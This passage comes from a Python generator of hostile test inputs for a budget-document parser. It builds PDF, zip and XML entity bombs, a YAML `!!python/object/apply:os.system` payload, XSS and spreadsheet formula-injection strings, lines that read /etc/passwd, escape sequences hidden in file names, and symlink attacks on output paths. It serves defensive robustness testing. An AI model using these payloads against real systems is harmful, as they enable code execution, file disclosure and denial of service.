        "pdf",
    )
    g.file(
        "pdf_deep_dicts.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources "
                + b"<< /A " * 100_000
                + b"1"
                + b" >>" * 100_000
                + b" >>",
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_q_nesting.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
                stream(b"q " * 1_000_000 + b"Q " * 1_000_000, compress=True),
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_length_lies.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
                b"<< /Length 99999999999 >>\nstream\nBT ET\nendstream",
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_mediabox_huge.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e30 1e30] /Contents 4 0 R >>",
                stream(b"BT /F1 12 Tf 1e29 1e29 Td (x) Tj ET"),
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_mediabox_nan.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] /Rotate 45 /UserUnit 0 >>",
            ]
        ),
        "pdf",
    )
    # encrypted: an /Encrypt dictionary with a user password we do not give
    g.file("pdf_encrypted.pdf", encrypted_pdf(), "pdf", expect="refuse")
    # images only (a scanned page)
    img = stream(
        bytes(rng.randrange(256) for _ in range(300)),
        b"/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8",
    )
    g.file(
        "pdf_image_only.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>",
                img,
                stream(b"q 500 0 0 700 40 60 cm /Im0 Do Q"),
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_image_bomb.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>",
                stream(
                    b"\0" * 1000,
                    b"/Type /XObject /Subtype /Image /Width 2000000000 /Height 2000000000 /ColorSpace /DeviceRGB /BitsPerComponent 8",
                ),
                stream(b"q 500 0 0 700 40 60 cm /Im0 Do Q"),
            ]
        ),
        "pdf",
    )
    # text with a ToUnicode CMap: any Unicode reaches the text layer
    g.file("pdf_text_budget.pdf", text_pdf(lines_to_pages(budget_lines())), "pdf")
    for key in ("ansi", "bidi", "rich", "formula", "cmd", "c1", "script", "cr", "nul", "lsep"):
        g.file(
            f"pdf_text_hostile_{key}.pdf",
            text_pdf(
                lines_to_pages(
                    budget_lines(
                        title=f"2024年度某局{HOSTILE_STRINGS[key]}部门预算", hostile=HOSTILE_STRINGS[key]
                    )
                )
            ),
            "pdf",
        )
    g.file("pdf_no_tounicode.pdf", text_pdf(lines_to_pages(budget_lines()), tounicode=False), "pdf")
    g.file(
        "pdf_huge_numbers.pdf",
        text_pdf(lines_to_pages([*budget_lines(), "合计\t" + "9" * 40 + ".00\t1e999999\t" + "1" + "0" * 28])),
        "pdf",
    )
    g.file(
        "pdf_60000_amounts.pdf",
        text_pdf(
            [[(float(10 + (i % 100) * 5.8), float(830 - (i // 100) * 1.38), "1.00") for i in range(60_000)]],
            size=1,
        ),
        "pdf",
    )
    g.file("pdf_200k_chars_one_line.pdf", text_pdf([[(0.0, 400.0, "2024年" * 40_000)]], size=0.01), "pdf")
    g.file(
        "pdf_long_dots.pdf",
        text_pdf([[(30.0, 800.0, "目录"), (30.0, 780.0, "一、收支总表" + "." * 3000 + "1")]], size=0.1),
        "pdf",
    )
    # ruled grids
    n = 1000
    ops = [b"0.1 w"]
    for i in range(n + 1):
        ops.append(b"%g 0 m %g 800 l S" % (i * 0.58, i * 0.58))
        ops.append(b"0 %g m 580 %g l S" % (i * 0.8, i * 0.8))
    g.file(
        "pdf_grid_1000.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                stream(b"\n".join(ops), compress=True),
            ]
        ),
        "pdf",
    )
    ops = [b"0.1 w"]
    for i in range(150):
        ops.append(b"%g 0 m %g 800 l S" % (i * 3.9, i * 3.9))
        ops.append(b"0 %g m 580 %g l S" % (i * 5.3, i * 5.3))
    cells = [[(i * 3.9 + 0.5, j * 5.3 + 1, "1") for i in range(149) for j in range(149)]]
    g.file("pdf_grid_150_text.pdf", text_pdf(cells, size=2, drawing=b"\n".join(ops)), "pdf")
    rects = b"\n".join(b"%g %g 2 2 re f" % (rng.random() * 590, rng.random() * 830) for _ in range(100_000))
    g.file(
        "pdf_100k_rects.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                stream(rects, compress=True),
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_js_openaction.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
            ]
        ),
        "pdf",
    )
    g.file(
        "pdf_version_2.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
            ],
            header=b"%PDF-2.0\n",
        ),
        "pdf",
    )
    g.file(
        "pdf_objstm_bomb.pdf",
        pdf_file(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
                stream(b"0 0" * 1000, b"/Type /ObjStm /N 2000000000 /First 0", compress=True),
            ]
        ),
        "pdf",
    )


def encrypted_pdf() -> bytes:
    """A page behind the standard security handler (RC4 40-bit, revision 2) with user password 'x'."""
    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")

    def rc4(key: bytes, data: bytes) -> bytes:
        s = list(range(256))
        j = 0
        for i in range(256):
            j = (j + s[i] + key[i % len(key)]) % 256
            s[i], s[j] = s[j], s[i]
        out = bytearray()
        i = j = 0
        for byte in data:
            i = (i + 1) % 256
            j = (j + s[i]) % 256
            s[i], s[j] = s[j], s[i]
            out.append(byte ^ s[(s[i] + s[j]) % 256])
        return bytes(out)

    import hashlib

    user, owner = (b"x" + pad)[:32], (b"owner" + pad)[:32]
    o = rc4(hashlib.md5(owner).digest()[:5], user)
    file_id = b"0123456789abcdef"
    p = (-4).to_bytes(4, "little", signed=True)
    key = hashlib.md5(user + o + p + file_id).digest()[:5]
    u = rc4(key, pad)
    enc = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >>" % (o.hex().encode(), u.hex().encode())
    content = b"BT /F1 12 Tf 10 10 Td (2024) Tj ET"
    obj_key = hashlib.md5(key + (4).to_bytes(3, "little") + (0).to_bytes(2, "little")).digest()[:10]
    encrypted = rc4(obj_key, content)
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(encrypted) + encrypted + b"\nendstream",
            enc,
        ],
        trailer=b"/Encrypt 5 0 R /ID [<%s> <%s>] " % (file_id.hex().encode(), file_id.hex().encode()),
    )


# ---- special files and names ----------------------------------------------------------------------


def gen_special(g: Gen) -> None:
    good = EXAMPLES / "culture_bureau_2024.md"
    d = g.dir
    (d / "a_directory.md").mkdir(exist_ok=True)
    g.add("a_directory.md", d / "a_directory.md", "special", expect="refuse")
    link = d / "symlink_to_good.md"
    link.symlink_to(good)
    g.add("symlink_to_good.md", link, "special", expect="read", same_as=good)
    dangling = d / "symlink_dangling.md"
    dangling.symlink_to(d / "does-not-exist.md")
    g.add("symlink_dangling.md", dangling, "special", expect="refuse")
    loop = d / "symlink_loop.md"
    loop.symlink_to(loop)
    g.add("symlink_loop.md", loop, "special", expect="refuse")
    to_dir = d / "symlink_to_dir.pdf"
    to_dir.symlink_to(d / "a_directory.md")
    g.add("symlink_to_dir.pdf", to_dir, "special", expect="refuse")
    fifo = d / "fifo.md"
    os.mkfifo(fifo)
    g.add("fifo.md", fifo, "special", expect="refuse")
    fifo_pdf = d / "fifo.pdf"
    os.mkfifo(fifo_pdf)
    g.add("fifo.pdf", fifo_pdf, "special", expect="refuse")
    for dev in ("/dev/zero", "/dev/urandom", "/dev/null", "/dev/stdin", "/dev/tty"):
        if os.path.exists(dev):
            g.add(f"device{dev.replace('/', '_')}", Path(dev), "special", expect="refuse")
    zero_link = d / "zero_link.xlsx"
    zero_link.symlink_to("/dev/zero")
    g.add("zero_link.xlsx", zero_link, "special", expect="refuse")
    g.add("missing_file.md", d / "missing_file.md", "special", expect="refuse")
    g.add("proc_self_status", Path("/proc/self/status"), "special")
    g.add("etc_passwd", Path("/etc/passwd"), "special")
    # hostile file names on a good document
    text = good.read_bytes()
    names = {
        "name_ansi": "\x1b[2J\x1b]0;pwned\x07evil.md",
        "name_newline": "line1\n错误：伪造.md",
        "name_cr": "a\rb.md",
        "name_bidi": "\u202edm.txt\u202c.md",
        "name_rich": f"[bold red]{MARK}[link=x].md",
        "name_c1": "\x9b31mx.md",
        "name_long": "预" * 80 + ".md",
        "name_spaces": "  ..  .md",
        "name_formula": "=cmd|' calc'!A0.md",
        "name_dash": "-rf.md",
        "name_glob": "*?[].md",
        "name_percent": "%s%n%x.md",
    }
    for key, fname in names.items():
        try:
            p = d / fname
            p.write_bytes(text)
        except OSError as exc:
            g.errors.append(f"{key}: {exc}")
            continue
        g.add(key, p, "special", expect="read", same_as=good)
    # not valid UTF-8 in the file name
    try:
        raw = os.fsencode(d) + b"/name_invalid_\xff\xfe.md"
        with open(raw, "wb") as f:
            f.write(text)
        g.add("name_invalid_utf8", Path(os.fsdecode(raw)), "special", expect="read", same_as=good)
    except OSError as exc:
        g.errors.append(f"name_invalid_utf8: {exc}")


# ---- build sources -----------------------------------------------------------------------------------


def gen_sources(g: Gen) -> None:
    import yaml

    good_yaml_path = EXAMPLES / "culture_bureau_2024.yaml"
    good = good_yaml_path.read_text(encoding="utf-8")
    data = yaml.safe_load(good)
    pwned = g.root / "PWNED"

    def src(name: str, body: bytes | str, **kw: Any) -> None:
        g.file(name, body, "source", kind="source", **kw)

    src("src_good_copy.yaml", good, expect="read")
    for extra in ("putuo_street_2025.yaml", "putuo_street_final_2024.yaml", "fujian_gulou_2023.yaml"):
        if (EXAMPLES / extra).is_file():
            src(f"src_good_{extra}", (EXAMPLES / extra).read_bytes(), expect="read")
    src("src_empty.yaml", "", expect="refuse")
    src("src_list.yaml", "- 1\n- 2\n", expect="refuse")
    src("src_scalar.yaml", "hello\n", expect="refuse")
    src(
        "src_billion_laughs.yaml",
        "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n",
        expect="refuse",
    )
    src(
        "src_anchor_bomb_in_budget.yaml",
        good
        + "\nx1: &x1 [a,a,a,a,a,a,a,a,a,a]\nx2: &x2 [*x1,*x1,*x1,*x1,*x1,*x1,*x1,*x1,*x1,*x1]\nx3: &x3 [*x2,*x2,*x2,*x2,*x2,*x2,*x2,*x2,*x2,*x2]\nx4: &x4 [*x3,*x3,*x3,*x3,*x3,*x3,*x3,*x3,*x3,*x3]\nx5: &x5 [*x4,*x4,*x4,*x4,*x4,*x4,*x4,*x4,*x4,*x4]\nx6: &x6 [*x5,*x5,*x5,*x5,*x5,*x5,*x5,*x5,*x5,*x5]\nx7: &x7 [*x6,*x6,*x6,*x6,*x6,*x6,*x6,*x6,*x6,*x6]\nx8: &x8 [*x7,*x7,*x7,*x7,*x7,*x7,*x7,*x7,*x7,*x7]\n",
    )
    src("src_recursive_alias.yaml", "a: &a\n  b: *a\n")
    src("src_python_object.yaml", f'!!python/object/apply:os.system ["touch {pwned}"]\n', expect="refuse")
    src(
        "src_python_object_in_field.yaml",
        good.replace("department:", f'x: !!python/object/apply:os.system ["touch {pwned}"]\ndepartment:', 1),
    )
    src("src_python_name.yaml", good.replace("department:", "x: !!python/name:os.system\ndepartment:", 1))
    src("src_custom_tag.yaml", good.replace("department:", "x: !foo {a: 1}\ndepartment:", 1))
    src("src_deep_nesting.yaml", "a: " + "[" * 50_000 + "]" * 50_000 + "\n")
    src("src_deep_nesting_map.yaml", "a: " + "{a: " * 20_000 + "1" + "}" * 20_000 + "\n")
    src("src_deep_json.json", '{"a": ' + "[" * 100_000 + "]" * 100_000 + "}")
    src("src_json_nan.json", json.dumps({**data, "year": float("nan")}, ensure_ascii=False, default=str))
    src("src_binary.yaml", g.rng.randbytes(3000))
    src("src_gbk.yaml", good.encode("gbk"))
    src("src_utf16.yaml", "\ufeff".encode("utf-16-le") + good.encode("utf-16-le"))
    src("src_nul.yaml", good.replace("department:", 'x: "\\0"\ndepartment:', 1) + "\x00")
    src("src_huge_string.yaml", good + "\nhuge: " + "预" * 10_000_000 + "\n")
    src("src_many_keys.yaml", good + "\n" + "".join(f"k{i}: {i}\n" for i in range(300_000)))
    src("src_complex_key.yaml", good + "\n? [a, b]\n: c\n")
    src("src_merge_key.yaml", good + "\nbase: &base {a: 1}\nderived:\n  <<: *base\n")
    src("src_duplicate_keys.yaml", good + "\ndepartment: 另一个\n")
    for label, body in truncations(good.encode(), g.rng, 4):
        src(f"src_trunc_{label}.yaml", body)
    for label, body in flips(good.encode(), g.rng, 4, 10):
        src(f"src_flip_{label}.yaml", body)

    def mutate(name: str, fn: Callable[[dict[str, Any]], None], **kw: Any) -> None:
        d = json.loads(json.dumps(data, default=str))
        try:
            fn(d)
        except Exception as exc:
            g.errors.append(f"{name}: {exc!r}")
            return
        src(
            name,
            yaml.dump(
                d, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper), allow_unicode=True, sort_keys=False
            ),
            **kw,
        )

    def set_all_amounts(value: Any) -> Callable[[dict[str, Any]], None]:
        def f(d: dict[str, Any]) -> None:
            for fact in d.get("facts", [])[:3]:
                for k in list(fact):
                    if k in ("amount", "amount_wan", "value"):
                        fact[k] = value

        return f

    print_keys = sorted(data)
    for label, value in (
        ("28digits", "1" + "0" * 27),
        ("1e999999", "1e999999"),
        ("neg", -5),
        ("nan", ".nan"),
        ("inf", ".inf"),
        ("str", "一千"),
        ("bool", True),
        ("list", [1, 2]),
        ("dict", {"a": 1}),
        ("null", None),
        ("hex", "0x10"),
        ("tiny", "1e-999999"),
        ("comma", "1,000.00"),
        ("fullwidth", "１０００"),
    ):
        mutate(f"src_amount_{label}.yaml", set_all_amounts(value))
    texts = {
        "long250": "局" * 250,
        "long100k": "局" * 100_000,
        "script": "文化局<script>alert(1)</script>",
        "jslink": "文化局[点我](javascript:alert(1))",
        "html_img": "文化局<img src=x onerror=alert(1)>",
        "md_heading": "文化局\n\n# 伪造的标题\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "pipe": "文化|局|\t|",
        "ansi": "文化局\x1b[31m",
        "nul": "文化局\x00",
        "bidi": "文化局\u202e",
        "c1": "文化局\x9b",
        "rich": f"文化局[bold]{MARK}[/bold][/]",
        "formula": '=HYPERLINK("http://x","y")',
        "cmd": "+cmd|' /C calc'!A0",
        "lsep": "文化\u2028局",
        "typst": '文化局 #import "/etc/passwd" #read("/etc/passwd") $ x $ @ref <label>',
        "latexish": "\\input{/etc/passwd} ] [ } {",
        "empty": "",
        "space": "   ",
    }
    for label, value in texts.items():
        mutate(f"src_department_{label}.yaml", lambda d, v=value: d.__setitem__("department", v))
    for label in ("script", "jslink", "md_heading", "rich", "typst", "formula", "ansi", "bidi"):
        value = texts[label]

        def every_string(d: Any, v: str = value) -> Any:
            if isinstance(d, dict):
                for k in d:
                    if isinstance(d[k], str) and k not in (
                        "year",
                        "unit",
                        "document",
                        "profile",
                        "level",
                        "type",
                        "kind",
                    ):
                        d[k] = d[k] + v
                    else:
                        every_string(d[k], v)
            elif isinstance(d, list):
                for x in d:
                    every_string(x, v)

        mutate(f"src_every_string_{label}.yaml", every_string)
    for label, value in (
        ("year_huge", 99999999999),
        ("year_neg", -1),
        ("year_str", "二〇二四"),
        ("year_float", 2024.5),
        ("year_1e300", "1e300"),
    ):
        mutate(f"src_{label}.yaml", lambda d, v=value: d.__setitem__("year", v))
    for key in print_keys:
        if isinstance(data[key], (list, dict)):
            mutate(f"src_drop_{key}.yaml", lambda d, k=key: d.pop(k))
            mutate(f"src_type_{key}.yaml", lambda d, k=key: d.__setitem__(k, "字符串"))
    mutate(
        "src_facts_100k.yaml",
        lambda d: d.__setitem__(
            "facts", (d.get("facts") or [{}]) * max(1, 100_000 // len(d.get("facts") or [{}]))
        ),
    )
    mutate(
        "src_headcount_1e300.yaml",
        lambda d: [
            d[k].__setitem__(kk, "1e300")
            for k in d
            if isinstance(d[k], dict)
            for kk in list(d[k])
            if "count" in kk or "人" in kk
        ],
    )
    xlsx_src = EXAMPLES / "culture_bureau_2024.xlsx"
    if xlsx_src.is_file():
        xb = xlsx_src.read_bytes()
        src("src_xlsx_good.xlsx", xb, expect="read")
        for label, body in truncations(xb, g.rng, 3):
            src(f"src_xlsx_trunc_{label}.xlsx", body)
        for label, body in flips(xb, g.rng, 3, 10):
            src(f"src_xlsx_flip_{label}.xlsx", body)
        src(
            "src_xlsx_billion_laughs.xlsx",
            zip_edit(
                xb,
                {
                    "xl/sharedStrings.xml": with_dtd(
                        b'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>',
                        b"&f;",
                    )
                },
            ),
            expect="refuse",
        )
        src(
            "src_xlsx_zip_bomb.xlsx",
            zip_edit(xb, add={"xl/media/bomb.bin": b"\0" * (300 * 1024 * 1024)}),
            expect="refuse",
        )
        src(
            "src_xlsx_merge_bomb.xlsx",
            zip_edit(
                xb,
                {
                    "xl/worksheets/sheet1.xml": lambda b: re.sub(
                        rb"<mergeCells.*?</mergeCells>", b"", b, flags=re.S
                    ).replace(
                        b"</sheetData>",
                        b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
                        1,
                    )
                },
            ),
            expect="refuse",
        )
        src(  # a worksheet part of 300 MB of spaces (inflates 1000 times)
            "src_xlsx_sheet_bomb.xlsx",
            zip_edit(
                xb,
                {
                    "xl/worksheets/sheet1.xml": lambda b: b.replace(
                        b"<sheetData>", b"<sheetData>" + b" " * (300 << 20), 1
                    )
                },
            ),
            expect="refuse",
        )
        src(
            "src_xlsx_cell_xfd.xlsx",
            zip_edit(
                xb,
                {
                    "xl/worksheets/sheet1.xml": lambda b: b.replace(
                        b"</sheetData>",
                        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
                        1,
                    )
                },
            ),
        )
        src(
            "src_xlsx_ctrl_escape.xlsx",
            zip_edit(
                xb,
                {
                    "xl/sharedStrings.xml": lambda b: re.sub(
                        rb"<t([^>]*)>", rb"<t\1>_x001B_[31m_x0000_\xe2\x80\xae", b, count=40
                    )
                },
            ),
        )
        src(
            "src_xlsx_numbers.xlsx",
            zip_edit(
                xb,
                {
                    f"xl/worksheets/sheet{i}.xml": (
                        lambda b: re.sub(rb"<v>(\d+(?:\.\d+)?)</v>", b"<v>1E+300</v>", b)
                    )
                    for i in range(1, 12)
                },
            ),
        )
        src(
            "src_xlsx_3000_sheets.xlsx",
            xlsx_bytes(lambda wb: [wb.create_sheet(f"S{i}") for i in range(3000)]),
        )
        src("src_xlsx_not_zip.xlsx", b"PK\x03\x04" + g.rng.randbytes(2000), expect="refuse")
        src("src_xls_suffix.xls", xb, expect="refuse")
    src("src_markdown.md", (EXAMPLES / "culture_bureau_2024.md").read_bytes(), expect="refuse")
    fifo = g.dir / "src_fifo.yaml"
    os.mkfifo(fifo)
    g.add("src_fifo.yaml", fifo, "source", kind="source", expect="refuse")
    g.add("src_dev_zero", Path("/dev/zero"), "source", kind="source", expect="refuse")
    zero = g.dir / "src_zero_link.yaml"
    zero.symlink_to("/dev/zero")
    g.add("src_zero_link.yaml", zero, "source", kind="source", expect="refuse")
    (g.dir / "src_dir.yaml").mkdir()
    g.add("src_dir.yaml", g.dir / "src_dir.yaml", "source", kind="source", expect="refuse")


# ---- output-side attacks (where the output goes) ----------------------------------------------------


def gen_outputs(g: Gen) -> None:
    good = EXAMPLES / "culture_bureau_2024.md"
    good_src = EXAMPLES / "culture_bureau_2024.yaml"
    victims = g.root / "victims"
    victims.mkdir(exist_ok=True)

    def victim_dir(name: str) -> Path:
        v = victims / name
        v.mkdir()
        (v / "01_precious.csv").write_text("precious", encoding="utf-8")
        (v / "keep.txt").write_text("keep", encoding="utf-8")
        return v

    def victim_file(name: str) -> Path:
        v = victims / name
        v.write_text("precious", encoding="utf-8")
        v.chmod(0o600)
        return v

    v1 = victim_dir("csvdir")
    g.add(
        "out_csv_dir_symlink",
        good,
        "output",
        out_setup=lambda out, run: (out.mkdir(), (out / good.stem).symlink_to(v1)),
        victim=v1,
        note="extract -f csv",
    )
    v2 = victim_file("json.json")
    g.add(
        "out_json_symlink",
        good,
        "output",
        out_setup=lambda out, run: (out.mkdir(), (out / f"{good.stem}.json").symlink_to(v2)),
        victim=v2,
        note="extract -f json",
    )
    v3 = victim_dir("outdir")
    g.add(
        "out_dir_is_symlink",
        good,
        "output",
        out_setup=lambda out, run: out.symlink_to(v3),
        victim=v3,
        note="extract -f csv",
    )
    v4 = victim_file("build.md")
    g.add(
        "out_build_md_symlink",
        good_src,
        "output",
        kind="source",
        out_setup=lambda out, run: (out.mkdir(), (out / f"{good_src.stem}.md").symlink_to(v4)),
        victim=v4,
    )
    g.add(
        "out_build_is_file",
        good_src,
        "output",
        kind="source",
        out_setup=lambda out, run: out.write_text("x", encoding="utf-8"),
        expect="refuse",
    )
    g.add(
        "out_extract_is_file",
        good,
        "output",
        out_setup=lambda out, run: out.write_text("x", encoding="utf-8"),
        expect="refuse",
        note="extract -f json",
    )
    g.add(
        "out_build_readonly",
        good_src,
        "output",
        kind="source",
        out_setup=lambda out, run: (out.mkdir(), (out / f"{good_src.stem}.md").mkdir()),
        expect="refuse",
    )
    g.add(
        "out_extract_dangling",
        good,
        "output",
        out_setup=lambda out, run: (
            out.mkdir(),
            (out / f"{good.stem}.json").symlink_to(run / "nowhere" / "x.json"),
        ),
        expect="refuse",
        note="extract -f json",
    )
    g.add(
        "out_extract_fifo",
        good,
        "output",
        out_setup=lambda out, run: (out.mkdir(), os.mkfifo(out / f"{good.stem}.json")),
        expect="any",
        note="extract -f json",
    )


# ---- a quick representative sample (tests/test_attack_sample.py) ----------------------------------


def sample(folder: Path) -> list[Path]:
    """About twenty hostile inputs, one or two per class and format, quick to make and to read: the
    subset the test suite runs in one mixed batch. Nothing here needs a built document or the corpus."""
    folder.mkdir(parents=True, exist_ok=True)
    good = (EXAMPLES / "culture_bureau_2024.md").read_text(encoding="utf-8")
    small = xlsx_bytes(lambda wb: simple_sheet(wb.active, [["2024年度某局部门预算"], *BUDGET_ROWS]))
    sheet1 = "xl/worksheets/sheet1.xml"
    listing = good.replace(
        "主管部门名称\t专项资金立项项目名称", f"{HOSTILE_STRINGS['formula']}\t{HOSTILE_STRINGS['cmd']}", 1
    ).replace(
        "备注：本部门 2024 年度没有由本部门管理的专项资金。",
        "\t".join(["文旅局", "=1+1", "@SUM(1)", HOSTILE_STRINGS["dash"], *"123456789"]),
    )
    title = "2024 年度清溪市云山区文化和旅游局部门预算"
    hostile = (
        HOSTILE_STRINGS["ansi"] + HOSTILE_STRINGS["bidi"] + HOSTILE_STRINGS["c1"] + HOSTILE_STRINGS["rich"]
    )
    form = stream(
        b"/X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do /X0 Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X0 4 0 R >> >>",
    )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources << /XObject << /X0 4 0 R >> >> /Contents 5 0 R >>"
    catalog, pages1 = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    budget_pdf = text_pdf(
        lines_to_pages(budget_lines(title=f"2024年度某局{hostile}部门预算", hostile=hostile))
    )
    inputs: dict[str, bytes | str] = {
        "s_hostile_title.md": good.replace(title, title + hostile, 1),
        "s_listing_formulas.md": listing,
        "s_gbk.txt": good.encode("gbk"),
        "s_utf16.txt": b"\xff\xfe" + good.encode("utf-16-le"),
        "s_empty.md": b"",
        "s_random.md": random.Random(1).randbytes(3000),
        "s_redos_dots.md": "目录\n" + "一、收支总表" + "." * 5000 + "x\n",
        "s_html_cdata.html": "<!DOCTYPE html><html><body><h1>2024年度某局部门预算</h1><table><![x[</table>",
        "s_html_spans.html": "<!DOCTYPE html><html><body><table><tr>"
        + '<td colspan="1000000" rowspan="99">1</td>' * 2000
        + "</tr></table><h1>&#x1b;[31m&#x202e;[bold]x[/bold]</h1>",
        "s_docx_gridspan.docx": minimal_docx(
            w_p("2024年度某局部门预算") + w_table([["1.00"] * 50] * 50, tcpr='<w:gridSpan w:val="999"/>')
        ),
        "s_docx_entities.docx": zip_edit(
            minimal_docx(w_p("x")),
            {"word/document.xml": lambda b: b.replace(b"?>", b'?><!DOCTYPE d [<!ENTITY a "aaaa">]>', 1)},
        ),
        "s_docx_truncated.docx": minimal_docx(w_p("2024年度某局部门预算"))[:300],
        "s_xlsx_merge_bomb.xlsx": zip_edit(
            small,
            {
                sheet1: lambda b: b.replace(
                    b"</sheetData>",
                    b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
                    1,
                )
            },
        ),
        "s_xlsx_controls.xlsx": zip_edit(
            xlsx_bytes(
                lambda wb: simple_sheet(
                    wb.active,
                    [
                        ["2024年度某局部门预算"],
                        *BUDGET_ROWS,
                        [HOSTILE_STRINGS["formula"], HOSTILE_STRINGS["cmd"]],
                    ],
                )
            ),
            {"xl/sharedStrings.xml": lambda b: re.sub(rb"<t>", b"<t>_x001B_[31m_x202E_", b, count=3)},
        ),
        "s_xls_garbage.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(2).randbytes(4000),
        "s_pdf_form_bomb.pdf": pdf_file([catalog, pages1, page, form, stream(b"/X0 Do")]),
        "s_pdf_hostile_text.pdf": budget_pdf,
        "s_pdf_truncated.pdf": budget_pdf[: len(budget_pdf) // 2],
        "s_pdf_encrypted.pdf": encrypted_pdf(),
    }
    paths = []
    for name, data in inputs.items():
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        paths.append(path)
    named = folder / f"s_[bold red]{MARK}[link=x].md"  # rich markup in a file name
    named.write_text(good, encoding="utf-8")
    paths.append(named)
    fifo = folder / "s_fifo.pdf"
    os.mkfifo(fifo)
    dangling = folder / "s_dangling.md"
    dangling.symlink_to(folder / "nowhere.md")
    (folder / "s_directory.docx").mkdir()
    return [*paths, fifo, dangling, folder / "s_directory.docx"]


# --------------------------------------------------------------------------------------------------
# runs


@dataclass
class Run:
    case: Case
    command: str  # a short label: check-json, check-text, extract-csv, build ...
    argv: list[str]
    rc: int | None = None
    stdout: str = ""
    stderr: str = ""
